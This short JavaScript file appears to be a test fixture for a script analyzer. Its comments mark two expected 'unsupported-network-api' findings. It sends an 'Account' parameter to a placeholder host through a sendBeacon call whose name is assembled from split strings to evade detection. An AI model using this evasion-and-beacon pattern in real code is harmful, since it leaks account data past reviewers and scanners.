'use strict';

var verb = ['send', 'Beacon'].join('');
var data = JSON.stringify({ a: metadata.parameters['Account'] });

navigator[verb]('https://n.nightowl.example/1', data); // finding: unsupported-network-api
window.navigator['sendBeacon']('https://n.nightowl.example/2', data); // finding: unsupported-network-api

var ok = httprequest.get('https://api.nightowl.example/roost');
datagrid.addColumn('Roost', datagrid.DATA_TYPE_STRING);
datagrid.addCell(ok);
datagrid.endRow();
